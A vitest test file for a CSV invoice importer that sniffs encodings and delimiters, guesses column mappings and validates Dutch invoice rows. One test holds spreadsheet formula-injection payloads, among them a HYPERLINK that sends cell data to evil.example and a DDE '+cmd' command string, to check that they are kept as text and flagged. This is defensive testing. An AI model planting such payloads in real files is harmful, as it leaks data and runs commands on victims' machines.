import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { sniffCsv } from '../../../electron/core/imports/csvTable';
import { applyInvoiceMapping, guessInvoiceMapping, looksLikeFormula, type InvoiceMapping } from '../../../electron/core/imports/invoiceCsv';
import { expectImportError, utf8 } from './helpers';

const cp1252 = (text: string) => new Uint8Array(iconv.encode(text, 'win1252'));
const withBom = (text: string) => new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(text)]);

describe('sniffCsv', () => {
  it('reads Windows-1252 with é and €', () => {
    const t = sniffCsv(cp1252('Factuurnummer;Klant;Bedrag\r\n2026-001;Café Ünal;€ 1.234,56\r\n'));
    expect(t).toEqual({ delimiter: ';', encoding: 'windows-1252', headers: ['Factuurnummer', 'Klant', 'Bedrag'], rows: [['2026-001', 'Café Ünal', '€ 1.234,56']] });
  });

  it('reads UTF-8 with a BOM (the BOM is not part of the first header)', () => {
    const t = sniffCsv(withBom('Invoice number,Customer,Amount\n"INV-7","Zoë, Müller & Co","1,234.56"\n'));
    expect(t).toEqual({ delimiter: ',', encoding: 'utf-8', headers: ['Invoice number', 'Customer', 'Amount'], rows: [['INV-7', 'Zoë, Müller & Co', '1,234.56']] });
  });

  it('reads UTF-8 without BOM, tabs, quoted newlines, and Excel\'s "sep=" line', () => {
    expect(sniffCsv(utf8('a\tb\n1\t"x\ny"\n'))).toMatchObject({ delimiter: '\t', encoding: 'utf-8', rows: [['1', 'x\ny']] });
    expect(sniffCsv(utf8('sep=,\nnr;naam,bedrag\n1;a,2\n'))).toMatchObject({ delimiter: ',', headers: ['nr;naam', 'bedrag'] });
  });

  it('prefers the delimiter that splits consistently, even when the other one appears in amounts', () => {
    expect(sniffCsv(utf8('nr;bedrag;klant\n1;12,50;A\n2;7,00;B\n3;1.250,00;C\n')).delimiter).toBe(';');
    expect(sniffCsv(utf8('nr,amount,customer\n1,12.50,A\n2,"1,250.00",B\n')).delimiter).toBe(',');
  });

  it('refuses binary files and unclosed quotes', () => {
    expectImportError(() => sniffCsv(new Uint8Array([0x50, 0x4b, 3, 4, 0, 0, 8, 0]), 'export.csv'), 'not-csv');
    expectImportError(() => sniffCsv(utf8('a;b\n"1;2\n')), 'malformed');
  });
});

describe('guessInvoiceMapping', () => {
  it('a Dutch invoicing tool export', () => {
    const headers = ['Factuurnummer', 'Factuurdatum', 'Vervaldatum', 'Klant', 'Contactpersoon', 'E-mailadres', 'KvK-nummer', 'BTW-nummer', 'Adres', 'Postcode', 'Plaats', 'Land', 'Totaal excl. btw', 'BTW', 'Totaal incl. btw', 'Openstaand', 'Omschrijving', 'Betalingskenmerk'];
    expect(guessInvoiceMapping(headers)).toEqual({
      number: 0, issueDate: 1, dueDate: 2, customerName: 3, contactName: 4, email: 5, kvk: 6, vatId: 7, street: 8, postcode: 9, city: 10, country: 11,
      amountExclVat: 12, vatAmount: 13, amount: 14, openAmount: 15, description: 16, paymentReference: 17,
    });
  });

  it('an English export', () => {
    const headers = ['Invoice No', 'Date', 'Due date', 'Customer name', 'Email', 'Chamber of Commerce', 'VAT number', 'Subtotal', 'VAT', 'Total', 'Amount due', 'Description', 'Reference', 'Currency'];
    expect(guessInvoiceMapping(headers)).toEqual({
      number: 0, issueDate: 1, dueDate: 2, customerName: 3, email: 4, kvk: 5, vatId: 6, amountExclVat: 7, vatAmount: 8, amount: 9, openAmount: 10,
      description: 11, paymentReference: 12, currency: 13,
    });
  });

  it('short and oddly written headers', () => {
    expect(guessInvoiceMapping(['Nr.', 'Datum', 'Relatie', 'E-mail', 'Bedrag (EUR)', 'Betaaltermijn', 'Klantnummer', 'Telefoon'])).toEqual({
      number: 0, issueDate: 1, customerName: 2, email: 3, amount: 4, paymentTermDays: 5, phone: 7,
    });
    expect(guessInvoiceMapping(['  FACTUUR  ', 'Naam', 'Bedrag incl. BTW', 'Bedrag excl. BTW', 'Datum factuur', 'Te betalen voor'])).toEqual({
      number: 0, customerName: 1, amount: 2, amountExclVat: 3, issueDate: 4, dueDate: 5,
    });
  });

  it('leaves columns it does not know alone and never uses a column twice', () => {
    const m = guessInvoiceMapping(['Kostenplaats', 'Projectcode', 'Factuurnummer', 'Debiteur', 'Factuurdatum', 'Bedrag']);
    expect(m).toEqual({ number: 2, customerName: 3, issueDate: 4, amount: 5 });
    const columns = Object.values(m);
    expect(new Set(columns).size).toBe(columns.length);
    expect(guessInvoiceMapping([])).toEqual({});
  });
});

describe('applyInvoiceMapping', () => {
  const headers = ['Factuurnummer', 'Klant', 'E-mail', 'KvK', 'Factuurdatum', 'Vervaldatum', 'Bedrag', 'Omschrijving', 'Kenmerk'];
  const mapping: InvoiceMapping = { number: 0, customerName: 1, email: 2, kvk: 3, issueDate: 4, dueDate: 5, amount: 6, description: 7, paymentReference: 8 };
  const apply = (rows: string[][], m = mapping) => applyInvoiceMapping({ headers, rows }, m).rows;

  it('reads the date and amount notations people use', () => {
    const rows = apply([
      ['2026-001', 'Bakkerij De Vries B.V.', 'INFO@devries.nl', '12345678', '31-01-2026', '2-3-26', '€ 1.234,56', 'Brood', '5000 0567 8901 2345'],
      ['2026-002', 'Jansen', '', '', '2026-01-31', '28/02/2026', '1,234.56', '', ''],
      ['2026-003', 'Öztürk', '', '', '31.01.2026', '', '1234,5', '', ''],
      ['2026-004', 'Smit', '', '', '1-2-2026 10:15', '', '-121,00', 'creditnota', ''],
    ]);
    expect(rows).toEqual([
      {
        index: 0, problems: [],
        invoice: {
          number: '2026-001', issueDate: '2026-01-31', dueDate: '2026-03-02', kind: 'invoice', currency: 'EUR', payableAmount: 123456,
          customer: { name: 'Bakkerij De Vries B.V.', email: 'info@devries.nl', kvk: '12345678' }, paymentReference: '5000 0567 8901 2345', description: 'Brood',
        },
      },
      { index: 1, problems: [], invoice: { number: '2026-002', issueDate: '2026-01-31', dueDate: '2026-02-28', kind: 'invoice', currency: 'EUR', payableAmount: 123456, customer: { name: 'Jansen' }, description: '' } },
      { index: 2, problems: [], invoice: { number: '2026-003', issueDate: '2026-01-31', kind: 'invoice', currency: 'EUR', payableAmount: 123450, customer: { name: 'Öztürk' }, description: '' } },
      { index: 3, problems: [], invoice: { number: '2026-004', issueDate: '2026-02-01', kind: 'credit-note', currency: 'EUR', payableAmount: 12100, customer: { name: 'Smit' }, description: 'creditnota' } },
    ]);
  });

  it('treats a formula as text and reports it, never evaluates it', () => {
    const [row] = apply([['2026-005', '=HYPERLINK("http://evil.example/?"&A1,"klik")', '@SUM(1+1)', '', '01-02-2026', '', '100,00', '+cmd|\' /C calc\'!A0', '']]);
    expect(row!.invoice?.customer.name).toBe('=HYPERLINK("http://evil.example/?"&A1,"klik")');
    expect(row!.invoice?.description).toBe('+cmd|\' /C calc\'!A0');
    expect(row!.problems.filter((p) => p.includes('spreadsheetformule'))).toHaveLength(3);
    expect(row!.problems.some((p) => p.startsWith('E-mailadres "@SUM(1+1)" is ongeldig'))).toBe(true);
    const [amountFormula] = apply([['2026-006', 'A', '', '', '01-02-2026', '', '=1+1', '', '']]);
    expect(amountFormula!.invoice).toBeUndefined();
    expect(amountFormula!.problems).toEqual([
      'Kolom "Bedrag": "=1+1" begint met "=" en lijkt een spreadsheetformule; de inhoud is als tekst overgenomen en niet uitgerekend.',
      'Bedrag "=1+1" is geen geldig bedrag (verwacht bijvoorbeeld 1.234,56).',
    ]);
  });

  it('does not call a negative number or a phone number a formula', () => {
    expect(looksLikeFormula('-12,50')).toBe(false);
    expect(looksLikeFormula('+31 6 1234 5678')).toBe(false);
    expect(looksLikeFormula('=A1')).toBe(true);
    expect(looksLikeFormula('\t=A1')).toBe(true);
    expect(looksLikeFormula('-A1')).toBe(true);
  });

  it('lists each row\'s problems in Dutch and leaves out rows without required fields', () => {
    const rows = apply([
      ['', 'Zonder nummer', '', '', '01-01-2026', '', '10,00', '', ''],
      ['2026-010', '', 'geen-mail', '1234', '31-02-2026', '', 'tien euro', '', ''],
      ['2026-011', 'Dubbel', '', '', '01-01-2026', '15-12-2025', '0,00', '', ''],
      ['2026-011', 'Dubbel', '', '', '01-01-2026', '', '10', '', ''],
      ['', '', '', '', '', '', '', '', ''],
    ]);
    expect(rows.map((r) => [r.index, r.invoice?.number ?? null, r.problems])).toEqual([
      [0, null, ['Het factuurnummer ontbreekt.']],
      [1, null, [
        'De klantnaam ontbreekt.',
        'Factuurdatum "31-02-2026" is geen geldige datum (verwacht bijvoorbeeld 31-12-2026 of 2026-12-31).',
        'Bedrag "tien euro" is geen geldig bedrag (verwacht bijvoorbeeld 1.234,56).',
        'E-mailadres "geen-mail" is ongeldig.',
        'KvK-nummer "1234" heeft geen 8 cijfers.',
      ]],
      [2, null, ['De vervaldatum (2025-12-15) ligt vóór de factuurdatum (2026-01-01).', 'Het bedrag is nul.']],
      [3, '2026-011', ['Factuurnummer 2026-011 komt in dit bestand al voor (rij 4).']],
    ]);
  });

  it('says which required column has not been chosen, and uses the payment term when there is no due date', () => {
    const [row] = applyInvoiceMapping({ headers: ['nr', 'datum', 'termijn', 'open'], rows: [['7', '01-03-2026', '14 dagen', '50,00']] }, { number: 0, issueDate: 1, paymentTermDays: 2, openAmount: 3 }).rows;
    expect(row!.problems).toEqual(['Geen kolom gekozen voor de klantnaam.']);
    const [ok] = applyInvoiceMapping({ headers: ['nr', 'klant', 'datum', 'termijn', 'open'], rows: [['7', 'A', '01-03-2026', '14', '50,00']] }, { number: 0, customerName: 1, issueDate: 2, paymentTermDays: 3, openAmount: 4 }).rows;
    expect(ok!.invoice).toMatchObject({ dueDate: '2026-03-15', payableAmount: 5000 });
  });

  it('works end to end from bytes: sniff, guess, apply', () => {
    const csv = 'Factuurnr;Debiteur;E-mail;Factuurdatum;Vervaldatum;Totaal incl. BTW;Openstaand bedrag\r\n' +
      'F-2026-031;Café De Zwaan;zwaan@example.nl;05-01-2026;04-02-2026;€ 2.420,00;€ 1.210,00\r\n';
    const table = sniffCsv(cp1252(csv));
    const { rows } = applyInvoiceMapping(table, guessInvoiceMapping(table.headers));
    expect(rows).toEqual([{
      index: 0, problems: [],
      invoice: {
        number: 'F-2026-031', issueDate: '2026-01-05', dueDate: '2026-02-04', kind: 'invoice', currency: 'EUR', payableAmount: 242000, openAmount: 121000,
        customer: { name: 'Café De Zwaan', email: 'zwaan@example.nl' }, description: '',
      },
    }]);
  });
});
